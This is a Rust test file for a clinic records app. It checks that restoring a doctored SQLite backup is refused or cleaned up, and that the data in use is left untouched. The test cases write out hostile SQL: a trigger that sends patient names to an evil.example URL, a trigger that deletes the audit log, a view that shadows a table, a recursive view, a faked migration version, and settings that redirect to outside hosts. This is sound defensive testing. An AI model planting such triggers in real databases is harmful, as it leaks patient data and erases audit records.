//! A file from outside is rebuilt, never adopted: each doctored backup made here (a trigger on
//! the patients or on the audit log, a view named like a table, a recursive view, a setting that
//! points at another machine, a row with a bidi control, twelve digits in a note) is refused or
//! neutralised (the setting not taken over, the note emptied), the data in use is untouched, and nothing from the file runs afterwards.

use std::path::{Path, PathBuf};
use std::str::FromStr;

use chrono::{DateTime, Duration, TimeZone, Utc};
use sqlx::sqlite::SqliteConnectOptions;
use sqlx::{ConnectOptions, Connection};
use store::Store;
use store::backup::{self, PENDING_RESTORE};
use store::recovery::{CodeKeeper, RecoveryCode};
use store::sealed::Codes;

/// The 復元コード of these tests.
const CODE: &str = "ABCDE-FGHJK-LMNPQ-RSTUV-WXYZ2-34567";
use store::clinic::{ClinicKind, ClinicProfileInput};

fn at(minute: i64) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 6, 0, 0, 0).single().expect("valid time") + Duration::minutes(minute)
}

fn profile() -> ClinicProfileInput {
    ClinicProfileInput {
        name: "さくら整骨院".into(),
        kind: Some(ClinicKind::Judo),
        reg_no_judo: "協1301234-1-2".into(),
        reg_no_ahaki: String::new(),
        postal_code: "100-0001".into(),
        address: "東京都千代田区千代田1-1".into(),
        phone: "03-1234-5678".into(),
        owner_name: "山田 太郎".into(),
    }
}

fn hanako() -> store::patients::PatientInput {
    store::patients::PatientInput {
        name: "見本　花子".into(),
        address: "東京都千代田区霞が関1-2-2".into(),
        birth_date: chrono::NaiveDate::from_ymd_opt(1985, 1, 2).expect("date"),
        sex: store::patients::PatientSex::Female,
        source: store::patients::PatientSource::Card,
    }
}

/// A clinic's data in `root/data`, and a generation of it decrypted to `root/<name>` for doctoring:
/// a plain database, as an older app's generation is, and so still restorable.
async fn clinic_and_copy(root: &Path, name: &str) -> (Store, PathBuf, PathBuf) {
    let (dir, usb) = (root.join("data"), root.join("USB"));
    std::fs::create_dir_all(&usb).expect("usb");
    let store = Store::open_in(&dir).await.expect("open");
    store.save_clinic_profile(&profile(), "院長", at(0)).await.expect("profile");
    let code = RecoveryCode::parse(CODE).expect("code");
    CodeKeeper::new(&dir).adopt(&code, at(0)).expect("kept");
    let generation = store.back_up(&usb, 7, &code, at(1)).await.expect("backup");
    let copy = root.join(name);
    let sealed = std::fs::File::open(backup::generation_path(&usb, &generation.name).expect("path")).expect("open");
    let mut zip = zip::ZipArchive::new(sealed).expect("a zip");
    let mut entry = zip.by_name_decrypt(store::DATABASE_FILE, CODE.as_bytes()).expect("the code opens it");
    std::io::copy(&mut entry, &mut std::fs::File::create(&copy).expect("create")).expect("decrypt");
    (store, dir, copy)
}

/// Runs `sql` on the copy as an attacker would, with SQLite itself.
async fn doctor(file: &Path, sql: &str) {
    let mut conn = SqliteConnectOptions::from_str("sqlite:")
        .expect("options")
        .filename(file)
        .connect()
        .await
        .expect("open the copy");
    sqlx::raw_sql(sqlx::AssertSqlSafe(sql.to_string())).execute(&mut conn).await.expect("doctored");
    conn.close().await.expect("close");
}

/// Stages `file` as the restore of the data in `dir` (its own code kept there; the doctored
/// files here are plain, as an older app's generation is).
async fn restore(dir: &Path, file: &Path) -> Result<backup::BackupSummary, store::StoreError> {
    backup::stage_restore(dir, file, Codes { keeper: &CodeKeeper::new(dir), typed: None }, "0.1.0", "院長", at(2)).await
}

async fn audit_rows(store: &Store) -> usize {
    store.audit_log(1000, |_| None).await.expect("audit").len()
}

#[tokio::test]
async fn a_doctored_schema_is_refused_before_anything_of_it_runs() {
    let cases = [
        (
            "trigger_on_patients",
            "CREATE TRIGGER leak AFTER INSERT ON patients BEGIN
               INSERT OR REPLACE INTO settings (key, value, updated_at) VALUES ('update_address', 'https://evil.example/' || NEW.name, '');
             END;",
        ),
        ("trigger_on_audit", "CREATE TRIGGER wipe AFTER INSERT ON audit_log BEGIN DELETE FROM audit_log; END;"),
        (
            "view_shadowing_a_table",
            "DROP TABLE terminal; CREATE VIEW terminal AS SELECT 1 AS id, 'W0000001' AS account, '' AS device, 1 AS settings_pdf_checked, '' AS updated_at;",
        ),
        (
            "recursive_view",
            "CREATE VIEW spin AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c;",
        ),
        ("extra_index", "CREATE INDEX sneaky ON patients (address);"),
        ("a_lie_about_the_version", "UPDATE _sqlx_migrations SET version = 20261127000009 WHERE version = (SELECT MAX(version) FROM _sqlx_migrations);"),
    ];
    for (name, sql) in cases {
        let root = tempfile::tempdir().expect("tempdir");
        let (store, dir, copy) = clinic_and_copy(root.path(), &format!("{name}.sqlite3")).await;
        doctor(&copy, sql).await;
        let before = audit_rows(&store).await;
        let started = std::time::Instant::now();
        let e = restore(&dir, &copy).await.expect_err(name);
        assert_eq!(e.code(), "NotABackup", "{name}: {e}");
        assert!(e.to_string().contains("何も変更していません"), "{name}: {e}");
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "{name}: refused without running it");
        let e = backup::inspect(&copy).await.expect_err("the preview refuses it too");
        assert_eq!(e.code(), "NotABackup", "{name}: {e}");
        assert!(!dir.join(PENDING_RESTORE).exists(), "{name}: nothing staged");
        // The data in use is untouched, and what the file held never runs here.
        store.register_patient(&hanako(), "受付", at(3), at(3).date_naive(), None).await.expect("a later write");
        assert_eq!(store.setting(store::settings::UPDATE_ADDRESS).await.expect("read"), None, "{name}");
        assert_eq!(audit_rows(&store).await, before + 1, "{name}: the audit log keeps every row");
    }
}

#[tokio::test]
async fn settings_that_point_outside_are_not_taken_over_and_the_import_is_in_the_audit_log() {
    let root = tempfile::tempdir().expect("tempdir");
    let (store, dir, copy) = clinic_and_copy(root.path(), "settings.sqlite3").await;
    doctor(
        &copy,
        r"INSERT OR REPLACE INTO settings (key, value, updated_at) VALUES ('backup_folder', '\\server\share', '');
          INSERT OR REPLACE INTO settings (key, value, updated_at) VALUES ('update_address', 'https://other-host.example/feed.json', '');
          INSERT OR REPLACE INTO settings (key, value, updated_at) VALUES ('staff_name', '受付の佐藤', '');",
    )
    .await;
    let summary = restore(&dir, &copy).await.expect("rebuilt");
    assert_eq!(summary.clinic_name, "さくら整骨院");
    store.close().await;
    backup::apply_pending_restore(&dir, at(3)).expect("applied");
    let restored = Store::open_in(&dir).await.expect("reopen");
    assert_eq!(restored.backup_settings().await.expect("read").0, None, "the UNC folder is not taken over");
    assert_eq!(restored.setting(store::settings::UPDATE_ADDRESS).await.expect("read"), None);
    assert_eq!(restored.setting(store::settings::STAFF_NAME).await.expect("read").as_deref(), Some("受付の佐藤"));
    let entries = restored.audit_log(1000, |_| None).await.expect("audit");
    let import = entries.iter().find(|e| e.action == "import").expect("the import is an audit row");
    assert_eq!((import.entity.as_str(), import.actor.as_str()), ("data", "院長"));
    restored.register_patient(&hanako(), "受付", at(4), at(4).date_naive(), None).await.expect("a later write");
    assert_eq!(restored.setting(store::settings::UPDATE_ADDRESS).await.expect("read"), None);
}

#[tokio::test]
async fn a_row_with_a_character_no_field_takes_is_refused() {
    let cases = [(
        "bidi",
        "INSERT INTO patients (name, address, birth_date, sex, source, created_at, updated_at)
                  VALUES ('見本 花子', '東京都\u{202E}千代田区', '1985-01-02', 'female', 'card', '', '');",
    )];
    for (name, sql) in cases {
        let root = tempfile::tempdir().expect("tempdir");
        let (store, dir, copy) = clinic_and_copy(root.path(), &format!("{name}.sqlite3")).await;
        doctor(&copy, sql).await;
        let e = restore(&dir, &copy).await.expect_err(name);
        assert_eq!(e.code(), "NotABackup", "{name}: {e}");
        assert!(!dir.join(PENDING_RESTORE).exists() && !dir.join(format!("{PENDING_RESTORE}.partial")).exists());
        assert_eq!(store.clinic_profile().await.expect("read").expect("profile").name, "さくら整骨院");
    }
}

/// A note an older app's weaker guard let through (`1234ー5678ー9012`) is emptied on the way in
/// and counted in the rebuild's audit row: the 個人番号 is never kept, the rest of the data is.
#[tokio::test]
async fn a_note_that_could_hold_a_my_number_is_emptied_not_kept() {
    let root = tempfile::tempdir().expect("tempdir");
    let (store, dir, copy) = clinic_and_copy(root.path(), "note.sqlite3").await;
    doctor(
        &copy,
        "INSERT INTO eligibility_checks (checked_at, local_date, method, result, note, source)
         VALUES ('2026-12-06T00:00:00Z', '2026-12-06', 'other', 'ok', '番号 9876ー5432ー1098', 'staff');",
    )
    .await;
    restore(&dir, &copy).await.expect("rebuilt");
    store.close().await;
    backup::apply_pending_restore(&dir, at(3)).expect("applied");
    let restored = Store::open_in(&dir).await.expect("reopen");
    let day = chrono::NaiveDate::from_ymd_opt(2026, 12, 6).expect("date");
    let checks = restored.checks_on(day).await.expect("checks");
    assert_eq!(checks.len(), 1, "the check itself is kept");
    assert_eq!(checks[0].note, "", "its note is not");
    let bytes = std::fs::read(dir.join(store::DATABASE_FILE)).expect("read");
    assert!(!String::from_utf8_lossy(&bytes).contains("5432"), "not even in the file's free pages");
    let entries = restored.audit_log(1000, |_| None).await.expect("audit");
    let import = entries.iter().find(|e| e.action == "import").expect("the import row");
    assert!(import.detail.contains("\"notesCleared\":1"), "{}", import.detail);
}
